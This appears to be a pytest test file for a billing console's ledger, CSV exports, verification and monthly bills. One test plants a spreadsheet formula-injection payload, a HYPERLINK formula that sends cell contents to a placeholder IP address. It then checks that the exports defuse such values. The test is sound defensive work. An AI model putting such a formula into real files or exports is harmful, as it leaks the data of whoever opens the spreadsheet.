"""Pages of the ledger, its verification and the bills, compared with settlements and payments."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncEngine

from inkgate.service.accounts import repository as accounts_repository
from inkgate.service.accounts import service as accounts
from inkgate.service.console.pages import bills, operator_ledger
from inkgate.service.db import work
from inkgate.service.db.work import UnitOfWork
from inkgate.service.metering.models import PackRow
from inkgate.service.metering.service import packs_of
from inkgate.service.orders import refunds
from inkgate.service.orders.service import place_order
from tests.console.console_fixture import NOW, ConsoleFixture
from tests.console.test_pages import bought, call, traffic
from tests.postgres import ON_SQLITE


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"))))


async def test_the_ledger_is_listed_line_by_line_page_by_page(console: ConsoleFixture) -> None:
    await bought(console, general_100k=1)
    await traffic(console, *(call(console, images=1, units=1) for _ in range(operator_ledger.PER_PAGE + 3)))
    async with work.read_session(console.engine) as session:
        unit = UnitOfWork(session, "test", console.clock)
        first = await operator_ledger.view(unit, console.account_id, "general")
        rest = await operator_ledger.view(unit, console.account_id, "general", first.older)
        other = await operator_ledger.view(unit, console.other_id, "general")
    assert [row.seq for row in [*first.lines, *rest.lines]] == list(range(operator_ledger.PER_PAGE + 3, 0, -1))
    assert (rest.older, other.lines) == (None, [])
    assert {meter.capability: meter.lines for meter in first.meters}["general"] == operator_ledger.PER_PAGE + 3
    chief = await console.signed_in("chief")
    page = await chief.see(f"/operator/ledger?account={console.account_id}")
    assert "portal_app" in page and "192.0.2.7" in page
    sheet = rows(await chief.see(f"/operator/ledger.csv?account={console.account_id}"))
    assert sheet[0][:3] == ["调用编号", "行", "序号"] and len(sheet) == operator_ledger.PER_PAGE + 4
    none = await chief.see(f"/operator/ledger.csv?account={console.account_id}&since=2026-01-01&until=2026-01-02")
    assert len(rows(none)) == 1
    assert (await chief.get("/operator/ledger?account=0")).status_code == 404
    assert (await (await console.signed_in("lin")).get("/operator/ledger.csv")).status_code == 403


async def test_headings_of_exports_are_in_the_language_of_the_page(console: ConsoleFixture) -> None:
    chief, lin = await console.signed_in("chief"), await console.signed_in("lin")
    ledger = f"/operator/ledger.csv?account={console.account_id}"
    exports = [(chief, ledger), (chief, "/operator/audit.csv"), (chief, "/operator/takeover/report.csv")]
    exports += [(lin, each) for each in ("/bills.csv", "/monitor.csv", "/monitor-errors.csv")]
    for client, path in exports:
        chinese = rows(await client.see(path))[0]
        client.cookies.set("inkgate_language", "en", path="/console")
        english = rows(await client.see(path))[0]
        client.cookies.delete("inkgate_language", path="/console")
        assert len(chinese) == len(english) > 4, path
        assert "能力" in chinese or "操作" in chinese, path
        assert all(each.isascii() for each in english), path


async def test_no_export_of_the_console_has_a_formula(console: ConsoleFixture) -> None:
    await bought(console, general_100k=1)
    sent = '＝HYPERLINK("http://192.0.2.1/?"&A1,"open")'
    await traffic(console, call(console, request_id=sent))
    async with console.begin() as unit:
        sub = await accounts.create_account(unit, "=1+1", parent_id=console.account_id)
        await place_order(unit, sub.id, {"plate-100k": 1}, approval="immediate")
    chief, lin = await console.signed_in("chief"), await console.signed_in("lin")
    ledger = rows(await chief.see(f"/operator/ledger.csv?account={console.account_id}"))
    assert ledger[1][ledger[0].index("请求编号")] == "'" + sent
    found = [
        await chief.see("/operator/audit.csv"),
        await lin.see("/bills.csv"),
        await lin.see("/monitor.csv"),
        await lin.see("/monitor-errors.csv"),
    ]
    assert not [each for text in found for row in rows(text) for each in row if each[:1] in tuple("=+@＝")]
    assert "'=1+1" in {each for row in rows(found[1]) for each in row}


async def test_a_verification_finds_drift_and_is_audited(console: ConsoleFixture) -> None:
    await bought(console, general_100k=1)
    await traffic(console, call(console), call(console))
    chief = await console.signed_in("chief")
    sound = await chief.submit("/operator/ledger", page="/operator/ledger")
    assert "核对 2 行" in sound.text and "无误</span>" in sound.text
    async with work.unit_of_work(console.engine, "test") as unit:
        await unit.session.execute(update(PackRow).values(used=PackRow.used + 1))
    wrong = await chief.submit("/operator/ledger", page="/operator/ledger", account=console.account_id)
    assert "<code>units</code>" in wrong.text and "1 处不符" in wrong.text
    assert "校验账本" in await chief.see("/operator/audit?action=ledger")


async def test_one_verification_runs_at_a_time_and_large_ledgers_are_left_to_the_command(
    console: ConsoleFixture, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    await bought(console, general_100k=1)
    await traffic(console, call(console))
    chief = await console.signed_in("chief")
    async with console.parts.verification_lock:
        assert "另一次核对" in (await chief.submit("/operator/ledger", page="/operator/ledger")).text
    monkeypatch.setattr(operator_ledger, "MAX_VERIFIED_LINES", 0)
    assert "inkgate ledger verify" in (await chief.submit("/operator/ledger", page="/operator/ledger")).text


async def test_a_bill_lists_usage_by_sub_account_payments_and_refunds(console: ConsoleFixture) -> None:
    async with console.begin() as unit:
        sub = await accounts.create_account(unit, "青禾-二部", parent_id=console.account_id)
        app = await accounts.create_app(unit, console.parts.vault, sub.id, "second_app")
        await place_order(unit, console.account_id, {"general-100k": 2}, approval="immediate")
        await place_order(unit, console.account_id, {"idcard-100k": 1}, approval="operator")  # not paid for yet
        packs = await packs_of(unit.session, console.account_id, "general")
        await refunds.request_refund(unit, packs[1].id, "", decision="automatic")
    await traffic(
        console,
        call(console),
        call(console, code=400018, images=0, units=1),
        call(console, account_id=sub.id, app_id=app.app_id, units=3, images=3),
        call(console, "licence", units=1, images=1),
    )
    async with work.read_session(console.engine) as session:
        unit = UnitOfWork(session, "test", console.clock)
        main = await accounts_repository.account(session, console.account_id)
        part = await accounts_repository.account(session, sub.id)
        assert main is not None and part is not None
        whole = await bills.view(unit, main, "")
        own = await bills.view(unit, part, "2026-03")
        before = await bills.view(unit, main, "2026-02")
    assert (whole.month, whole.months[0], whole.months[-1]) == ("2026-03", "2026-03", "2025-03")
    assert [(each.account, each.capability, each.calls, each.images, each.units) for each in whole.uses.rows] == [
        ("青禾", "general", 2, 2, 3),
        ("青禾", "licence", 1, 1, 0),
        ("青禾-二部", "general", 1, 3, 3),
    ]
    assert whole.charges is not None
    assert [(each.refund, each.fen) for each in whole.charges.rows] == [(False, 90_000), (True, -45_000)]
    assert (whole.paid, whole.units) == (45_000, 6)
    assert own.charges is None and [each.account for each in own.uses.rows] == ["青禾-二部"]
    assert before.uses.rows == [] and before.charges is not None and before.charges.rows == []
    lin = await console.signed_in("lin")
    sheet = rows(await lin.see("/bills.csv?month=2026-03"))
    assert [line[0] for line in sheet] == ["类型", "用量", "用量", "用量", "订购", "退订"]
    assert sheet[-1][-1] == "-450.00" and '<td class="right">-¥450.00</td>' in await lin.see("/bills")
    await lin.submit("/preferences", page="/", language="en", next="/")
    english = rows(await lin.see("/bills.csv?month=2026-03"))
    assert [line[0] for line in english] == ["Type", *["Usage"] * 3, "Purchase", "Refund"]
    assert "青禾" not in "".join(map(str, rows(await (await console.signed_in("east")).see("/bills.csv"))))


async def test_a_month_ends_at_midnight_in_beijing(console: ConsoleFixture) -> None:
    console.clock.time = NOW.replace(month=2, day=28, hour=17)  # 1 March, one o'clock, in Beijing
    await bought(console, general_100k=1)
    async with work.read_session(console.engine) as session:
        unit = UnitOfWork(session, "test", console.clock)
        main = await accounts_repository.account(session, console.account_id)
        assert main is not None
        march, february = await bills.view(unit, main, "2026-03"), await bills.view(unit, main, "2026-02")
    assert (march.paid, february.paid) == (45_000, 0)
    console.clock.time = NOW.replace(year=2027, month=1, day=5)
    async with work.read_session(console.engine) as session:
        assert (await bills.view(UnitOfWork(session, "test", console.clock), main, "2026-12")).month == "2026-12"


@pytest.mark.parametrize(
    ("billing", "said"),
    [
        ({}, "返回错误码的也计次。服务自身的错误不计次。"),
        ({"request_fault": 0}, "图片本身有误（如格式、大小）而返回错误码的也计次。服务自身"),
        ({"image_fault": 0}, "请求参数有误而返回错误码的也计次。服务自身"),
        ({"image_fault": 0, "request_fault": 0}, "不计次。服务自身的错误不计次。"),
        ({"internal_fault": 1}, "返回错误码的也计次。</li>"),
    ],
)
@ON_SQLITE
async def test_pricing_says_which_errors_are_charged(engine: AsyncEngine, billing: dict[str, int], said: str) -> None:
    lin = await (await ConsoleFixture.build(engine, billing=billing)).signed_in("lin")
    assert said in await lin.see("/pricing")
    assert said.removeprefix("不计次。") in await lin.see("/agreement")
